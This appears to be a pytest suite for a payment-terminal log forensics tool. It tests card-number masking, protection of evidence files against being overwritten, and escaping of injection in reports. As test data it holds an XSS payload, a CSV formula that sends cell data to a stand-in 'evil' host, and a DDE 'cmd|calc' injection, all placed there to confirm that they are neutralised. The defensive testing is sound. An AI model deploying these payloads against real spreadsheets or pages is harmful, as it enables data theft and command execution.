"""Hostile input (issue 13): card numbers in any shape, outputs over inputs, half-written outputs,
injection through the Markdown report and CSV cells."""

from __future__ import annotations

import hashlib
import os
import re
import resource
import subprocess
import sys
from pathlib import Path

import polars as pl
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from polars.testing import assert_frame_equal

import forensics
from forensics.analysis import diagnose
from forensics.cli import main
from forensics.ingest.cards import CardGuard, luhn_ok
from forensics.report import incident
from forensics.timeline import build

PAN = "4761739001010010"
AMEX = "371449635398431"
UNIONPAY19 = "6221260000000000001"
SAMPLE = Path(__file__).resolve().parent.parent / "sample_logs" / "dup_paper_out_rerun" / "A920-1273.log"

# Every shape of the "Found" list; {p} the PAN, {s} in groups of 4 split by spaces, {d} by dashes.
SHAPES = [
    "pan={s}",
    "pan={d}",
    "PAN={p}",
    "pan:{p}",
    "PAN {p}",
    "cardNo={p}",
    "card_number: {p}",
    ";{p}=25122011143804400000?",
    "%B{p}^DOE/JOHN^2512101000000000?",
    "raw {p}=2512201000",
    "GET /pay?card={p}&amount=100 HTTP/1.1",
    '{{"pan":"{p}","amount":100}}',
    "\tat com.pos.CardReader.read(CardReader.java:42) card {p}",
    "卡号{p} 交易成功",
    "{p}",
    "debug card {p} retry",
    "card {s} ok",
    "card {d} ok",
]
ENVELOPES = {
    "logcat": "03-14 10:02:08.731  2311  2398 I TransProcess: {line}",
    "syslog": "Mar 14 10:02:08 A920-1 payapp[231]: {line}",
    "rfc5424": '<14>1 2026-03-14T10:02:08Z A920-1 payapp 231 - [meta pan="{p}"] {line}',
    "app": "{line}",
}
LOGCAT_HEAD = "03-14 10:02:07.000  2311  2398 I TransProcess: START amount=100\n"


# How card numbers are grouped when written for people, by length (Amex 4-6-5, Diners 4-6-4).
_GROUPING = {
    13: (4, 3, 3, 3),
    14: (4, 6, 4),
    15: (4, 6, 5),
    16: (4, 4, 4, 4),
    17: (4, 4, 4, 5),
    18: (4, 4, 4, 6),
    19: (4, 4, 4, 4, 3),
}


def _groups(pan: str, sep: str) -> str:
    cuts, at = [], 0
    for size in _GROUPING[len(pan)]:
        cuts.append(pan[at : at + size])
        at += size
    return sep.join(cuts)


def _shape(shape: str, pan: str) -> str:
    return shape.format(p=pan, s=_groups(pan, " "), d=_groups(pan, "-"))


def _leaks(text: str, pan: str) -> bool:
    """True when ``text`` holds the PAN, contiguous or once separators are removed."""
    return pan in text or pan in re.sub(r"[ \-]", "", text)


def _dump(loaded: forensics.Loaded) -> str:
    return "\n".join(frame.write_csv() + frame.write_ndjson() for frame in loaded)


def _write(folder: Path, name: str, lines: list[str], encoding: str = "utf-8") -> Path:
    path = folder / name
    path.write_bytes(("\n".join(lines) + "\n").encode(encoding))
    return path


def _cli(monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str], *args: str) -> tuple[int, str, str]:
    """Run the command line in this process: exit code, stdout, stderr."""
    monkeypatch.setattr(sys, "argv", ["forensics", *args])
    code = 0
    try:
        main()
    except SystemExit as exc:
        code = int(exc.code or 0)
    out, err = capsys.readouterr()
    return code, out, err


# ----------------------------------------------------------------------------- item 1: card data


@pytest.mark.parametrize("envelope", list(ENVELOPES))
@pytest.mark.parametrize("shape", SHAPES)
def test_every_card_shape_is_masked_and_recorded(tmp_path: Path, envelope: str, shape: str) -> None:
    line = ENVELOPES[envelope].format(line=_shape(shape, PAN), p=PAN)
    head = LOGCAT_HEAD if envelope in ("logcat", "app") else ""
    path = _write(tmp_path, "t.log", [*head.splitlines(), line])
    for fast in (True, False):
        loaded = forensics.load(path, card_key="k", fast=fast)
        assert not _leaks(_dump(loaded), PAN), (envelope, shape, fast)
        assert loaded.compliance.height >= 1
        assert set(loaded.compliance["masked"]) <= {"476173******0010", "[WIPED]"}


@pytest.mark.parametrize("pan", [AMEX, UNIONPAY19, "5413330089020011"])
def test_other_lengths(tmp_path: Path, pan: str) -> None:
    lines = [LOGCAT_HEAD.strip()] + [ENVELOPES["logcat"].format(line=_shape(s, pan)) for s in SHAPES]
    loaded = forensics.load(_write(tmp_path, "t.log", lines), card_key="k")
    assert not _leaks(_dump(loaded), pan)
    assert loaded.compliance.height >= len(SHAPES)


def test_gb18030_line(tmp_path: Path) -> None:
    path = _write(
        tmp_path,
        "t.log",
        [LOGCAT_HEAD.strip(), ENVELOPES["logcat"].format(line=f"卡号{PAN} 交易成功")],
        encoding="gb18030",
    )
    loaded = forensics.load(path, card_key="k")
    assert not _leaks(_dump(loaded), PAN) and loaded.compliance.height == 1


def test_jpos_fields_and_info(tmp_path: Path) -> None:
    block = [
        '<log realm="server-channel/10.20.0.5:9000" at="2026-01-14T23:17:07.270" lifespan="3ms">',
        "  <receive>",
        '    <isomsg direction="incoming">',
        '      <field id="0" value="0200"/>',
        '      <field id="2" value="520082______0222"/>',
        '      <field id="11" value="123855"/>',
        '      <field id="41" value="T3796656"/>',
        '      <field id="42" value="900000000000001"/>',
        f'      <field id="48" value="ref 88 card={PAN};exp=2512"/>',
        f'      <field id="120" value="card {_groups(PAN, " ")}"/>',
        "    </isomsg>",
        "  </receive>",
        "</log>",
        '<log realm="server-channel/10.20.0.5:9000" at="2026-01-14T23:17:08.000">',
        f"  <info>card {PAN} declined, retry with {AMEX}</info>",
        "</log>",
    ]
    plain = [line.replace(PAN, "476173******0010").replace(f"card {_groups(PAN, ' ')}", "x") for line in block]
    for lines in (block, plain):
        loaded = forensics.load(_write(tmp_path, "host.log", lines), card_key="k")
        assert_frame_equal(loaded.events, forensics.load(tmp_path / "host.log", card_key="k", fast=False).events)
    loaded = forensics.load(_write(tmp_path, "host.log", block), card_key="k")
    dump = _dump(loaded)
    assert not _leaks(dump, PAN) and not _leaks(dump, AMEX)
    assert loaded.compliance.height == 4  # fields 48 and 120, two numbers in <info>
    assert "900000000000001" in dump  # a MID, though Luhn-valid, stays


def test_unparsed_lines(tmp_path: Path) -> None:
    lines = [LOGCAT_HEAD.strip(), f"debug card {PAN} retry", PAN, f"x {_groups(PAN, '-')} y"]
    loaded = forensics.load(_write(tmp_path, "t.log", lines), card_key="k")
    assert loaded.unparsed.height == 3 and not _leaks(_dump(loaded), PAN)
    assert loaded.compliance.sort("line")["line"].to_list() == [2, 3, 4]


def test_ids_that_are_not_cards_stay() -> None:
    """MIDs, RRNs and STANs (zero-padded), negative and underscored ids, hashes, longer numbers."""
    kept = [
        "mid=000000001234567 rrn=412110000412 stan=000412",
        "blk_-1608999687919862906 blk_4761739001010010",
        "id=-4761739001010010",
        "sha=ab4761739001010010cd",
        "n=47617390010100100",
        "ts=2026-03-14 10:02:08",
        "bad 4761739001010011",
        "0476 1739 0010 1001",
        "03-17 16:14:20.108 23650 23685 V AudioManager: isMusicActive",  # ms, pid, tid: 13 Luhn-valid digits
        '<field id="42" value="900000000000001"/>',
        "mid=900000000000001 DE42=900000000000001",
        "1.4761739001010010 10:02:4761739001010010",
    ]
    guard = CardGuard(b"k")
    for text in kept:
        assert guard.protect(text) == (text, []), text


@pytest.mark.slow
def test_no_false_positive_on_real_logs(shared: Path) -> None:
    """Loghub (no card data) and the sample library: no digit run is taken for a card
    (benchmarks/card_false_positives.py gives the figures, ../shared/cases included)."""
    from tests.conftest import sample_log_files

    logs = sorted((shared / "corpus" / "loghub").glob("*/*.log")) + sample_log_files()
    loaded = forensics.load(logs, card_key="k")
    assert loaded.compliance.height == 0, loaded.compliance


def test_context_masks_non_luhn() -> None:
    text, found = CardGuard(b"k").protect("pan=4761739001010011 PAN 1234 5678 9012 3456")
    assert text == "pan=476173******0011 PAN 123456******3456" and len(found) == 2


@pytest.mark.slow
def test_pan_in_file_name(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
    named = tmp_path / f"card {PAN}.log"
    named.write_bytes(SAMPLE.read_bytes())
    loaded = forensics.load(named, card_key="k", tz={str(named): "Asia/Tokyo"})
    assert not _leaks(_dump(loaded), PAN)
    assert loaded.inputs["tz"][0] == "Asia/Tokyo"  # --tz FILE=ZONE still finds the file
    assert loaded.compliance.filter(pl.col("field") == "file name")["masked"].to_list() == ["476173******0010"]
    result = diagnose([named], card_key="k")
    tl = build(loaded)
    from forensics.report import text

    for shown in (result.to_json(), result.to_text(), text.render(tl, show_all=True)):
        assert not _leaks(shown, PAN)
    for args in (
        ["parse", str(named), "-o", str(tmp_path / "e.csv"), "--compliance", str(tmp_path / "c.csv")],
        ["timeline", str(named)],
        ["diagnose", str(named), "--format", "json"],
        ["parse", str(tmp_path / f"missing {PAN}.log")],
    ):
        _, out, err = _cli(monkeypatch, capsys, *args)
        assert not _leaks(out + err, PAN), args
    for out in tmp_path.glob("*.csv"):
        assert not _leaks(out.read_text(), PAN)
    report = incident.write(result, tmp_path / "report", "md")
    assert not _leaks(report.read_text(), PAN)


@st.composite
def _pans(draw: st.DrawFn) -> str:
    length = draw(st.integers(13, 19))
    body = draw(st.sampled_from("23456")) + "".join(
        draw(st.lists(st.sampled_from("0123456789"), min_size=length - 2, max_size=length - 2))
    )
    return body + next(d for d in "0123456789" if luhn_ok(body + d))


@given(
    pan=_pans(),
    shape=st.sampled_from(SHAPES),
    envelope=st.sampled_from(list(ENVELOPES)),
    in_name=st.booleans(),
    noise=st.sampled_from(["", " amount=100", " rc=00 stan=000412"]),
)
@pytest.mark.slow
@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
def test_no_output_holds_a_generated_card(
    tmp_path_factory: pytest.TempPathFactory, pan: str, shape: str, envelope: str, in_name: bool, noise: str
) -> None:
    """For any Luhn-valid card number in any shape, envelope or file name, no output holds its digits."""
    folder = tmp_path_factory.mktemp("prop")
    line = ENVELOPES[envelope].format(line=_shape(shape, pan) + noise, p=pan)
    lines = [LOGCAT_HEAD.strip(), line] if envelope in ("logcat", "app") else [line]
    name = f"dev {pan}.log" if in_name else "dev.log"
    path = _write(folder, name, lines)
    loaded = forensics.load(path, card_key="k")
    tl = build(loaded)
    result = diagnose([path], card_key="k")
    from forensics.report import text, timesketch

    shown = [
        _dump(loaded),
        text.render(tl, show_all=True),
        timesketch.write(tl),
        result.to_json(),
        result.to_text(),
        tl.transactions.write_ndjson(),
    ]
    for out in shown:
        assert not _leaks(out, pan)


def test_screen_is_cheap_on_plain_digits() -> None:
    """The fast path keeps lines whose digit runs cannot be cards (no Lark detour for MIDs)."""
    from forensics.ingest.cards import mask_text, screen_pattern

    plain = pl.Series(
        [
            "DE41=T0001234 DE42=000000001234567 DE37=412110000412",
            "blk_-1608999687919862906",
            "03-14 10:02:08.731  2311  2398 I X: y",
        ]
    )
    assert not plain.str.contains(screen_pattern()).any()
    assert mask_text(f"a {PAN}.log") == "a 476173******0010.log"


# ----------------------------------------------------------------------------- item 2: evidence


def _sha(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


@pytest.mark.parametrize("link", ["same", "symlink", "hardlink"])
@pytest.mark.parametrize(
    "command",
    [
        ["parse", "{log}", "-o", "{out}"],
        ["parse", "{log}", "-o", "{out}", "--format", "jsonl"],
        ["parse", "{log}", "-o", "{out}", "--format", "csv"],
        ["parse", "{log}", "-o", "e.csv", "--unparsed", "{out}"],
        ["parse", "{log}", "-o", "e.csv", "--compliance", "{out}"],
        ["timeline", "{log}", "-o", "{out}"],
        ["timeline", "{log}", "-o", "{out}", "--format", "parquet"],
        ["diagnose", "{log}", "-o", "{out}"],
    ],
)
def test_output_over_an_input_is_refused(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str], link: str, command: list[str]
) -> None:
    log = tmp_path / "x.log"
    log.write_bytes(SAMPLE.read_bytes())
    out = log if link == "same" else tmp_path / "out.file"
    if link == "symlink":
        out.symlink_to(log)
    elif link == "hardlink":
        os.link(log, out)
    before = _sha(log)
    monkeypatch.chdir(tmp_path)
    code, stdout, err = _cli(monkeypatch, capsys, *[a.format(log=log, out=out) for a in command])
    assert code == 2 and len(err.strip().splitlines()) == 1 and "evidence" in err, err
    assert _sha(log) == before and not (tmp_path / "e.csv").exists()


def test_write_parquet_refuses_an_input(tmp_path: Path) -> None:
    from forensics.errors import OutputError

    log = tmp_path / "x.log"
    log.write_bytes(SAMPLE.read_bytes())
    with pytest.raises(OutputError):
        forensics.write_parquet([log], log)
    assert log.read_bytes() == SAMPLE.read_bytes()


def test_chart_over_an_input_is_refused(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    log = tmp_path / "x.png"
    log.write_bytes(SAMPLE.read_bytes())
    before = _sha(log)
    code, _, err = _cli(monkeypatch, capsys, "chart", str(log), "-o", str(log))
    assert code == 2 and _sha(log) == before, err


@pytest.mark.parametrize("where", ["inside", "hardlink"])
def test_report_folder_holding_an_input_is_refused(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str], where: str
) -> None:
    folder = tmp_path / "case"
    folder.mkdir()
    if where == "inside":
        log = folder / "report.md"
        log.write_bytes(SAMPLE.read_bytes())
    else:
        log = tmp_path / "x.log"
        log.write_bytes(SAMPLE.read_bytes())
        os.link(log, folder / "report.html")
    before = _sha(log)
    code, _, err = _cli(monkeypatch, capsys, "report", str(log), "-o", str(folder), "--format", "md")
    assert code == 2 and len(err.strip().splitlines()) == 1, err
    assert _sha(log) == before and sorted(p.name for p in folder.iterdir()) == [
        "report.md" if where == "inside" else "report.html"
    ]


def _limited(limit: int) -> None:
    resource.setrlimit(resource.RLIMIT_FSIZE, (limit, limit))


@pytest.mark.parametrize(
    "args",
    [
        ["parse", "{log}", "-o", "{dir}/e.csv"],
        ["parse", "{log}", "-o", "{dir}/e.jsonl"],
        ["parse", "{log}", "-o", "{dir}/e.parquet"],
        ["timeline", "{log}", "--all", "-o", "{dir}/t.txt"],
        ["timeline", "{log}", "--format", "timesketch", "-o", "{dir}/t.jsonl"],
        ["report", "{log}", "-o", "{dir}", "--format", "html"],
        ["report", "{log}", "-o", "{dir}", "--format", "md"],
        ["report", "{log}", "-o", "{dir}", "--format", "pdf"],
        ["chart", "{log}", "-o", "{dir}/c.png"],
        ["chart", "{log}", "-o", "{dir}/c.svg"],
    ],
)
@pytest.mark.slow
def test_a_stopped_write_leaves_no_partial_file(tmp_path: Path, args: list[str]) -> None:
    """With ``ulimit -f`` too small for the output, the write fails and leaves nothing behind."""
    out = tmp_path / "out"
    out.mkdir()
    argv = [a.format(log=SAMPLE, dir=out) for a in args]
    result = subprocess.run(
        [sys.executable, "-c", "from forensics.cli import main; main()", *argv],
        capture_output=True,
        text=True,
        timeout=300,
        preexec_fn=lambda: _limited(4096),
    )
    assert result.returncode == 2, result.stderr
    assert list(out.iterdir()) == []


# ----------------------------------------------------------------------------- item 5: escaping

HOSTILE = '"><img src=x onerror=alert(1)>'


@pytest.mark.slow
def test_markdown_report_escapes_names_and_text(tmp_path: Path) -> None:
    log = tmp_path / f"{HOSTILE}.log"
    log.write_bytes(SAMPLE.read_bytes() + b"03-14 12:09:00.000  2311  2398 I Comm    : <script>x</script> | # [a](b)\n")
    result = diagnose([log], card_key="k", device="<b>dev</b>")
    report = incident.write(result, tmp_path / "r", "md").read_text()
    fences = re.findall(r"^(`{3,})$", report, flags=re.MULTILINE)
    assert fences and all(len(f) >= 3 for f in fences)
    outside = re.sub(r"^(`{3,})\n.*?^\1$", "", report, flags=re.MULTILINE | re.DOTALL)  # code blocks show text
    assert "<img" not in outside and "<b>" not in outside and "<script" not in outside
    assert "&lt;img src=x onerror=alert(1)&gt;" in report


def test_markdown_escape_keeps_text_readable() -> None:
    assert incident.md_escape("# [x](y) |a| `c` 1.5") == "\\# \\[x\\](y) \\|a\\| \\`c\\` 1.5"
    assert incident.md_escape("1. item") == "1\\. item"
    # numbers, dates and parentheses that open no block and no link stay as they are
    assert [incident.md_escape(t) for t in ("0.75", "2026-01-15", "1.01.22E", "skew (s)")] == [
        "0.75",
        "2026-01-15",
        "1.01.22E",
        "skew (s)",
    ]


INJECTIONS = [
    '=HYPERLINK("http://evil/?x="&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "=cmd|' /C calc'!A0",
    "\tTAB",
    "\rCR",
]


@pytest.mark.parametrize("raw", [False, True])
def test_csv_cells_are_neutralised(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str], raw: bool
) -> None:
    lines = [LOGCAT_HEAD.strip()] + [ENVELOPES["logcat"].format(line=i) for i in INJECTIONS[:5]] + INJECTIONS
    log = _write(tmp_path, "inj.log", lines)
    flag = ["--csv-raw"] if raw else []
    code, _, err = _cli(
        monkeypatch,
        capsys,
        "parse",
        str(log),
        "-o",
        str(tmp_path / "e.csv"),
        "--unparsed",
        str(tmp_path / "u.csv"),
        *flag,
    )
    assert code == 0, err
    events = pl.read_csv(tmp_path / "e.csv", infer_schema=False)
    unparsed = pl.read_csv(tmp_path / "u.csv", infer_schema=False)
    cells = events["message"].drop_nulls().to_list() + unparsed["text"].to_list()
    risky = [c for c in cells if c and c[0] in "=+-@\t\r"]  # an empty cell is no formula
    if raw:
        assert len(risky) >= 10
    else:
        assert risky == [] and "'=HYPERLINK" in "".join(cells)


def test_csv_numbers_are_not_touched() -> None:
    from forensics.outputs import csv_safe

    frame = pl.DataFrame({"amount": [-500, 100], "text": ["-500", "ok"], "rc": [None, "=1"]})
    assert csv_safe(frame).to_dict(as_series=False) == {
        "amount": [-500, 100],
        "text": ["'-500", "ok"],
        "rc": [None, "'=1"],
    }


def test_help_says_csv_raw(monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
    for command in ("parse", "timeline"):
        _, out, _ = _cli(monkeypatch, capsys, command, "--help")
        assert "--csv-raw" in out and "OWASP" in out
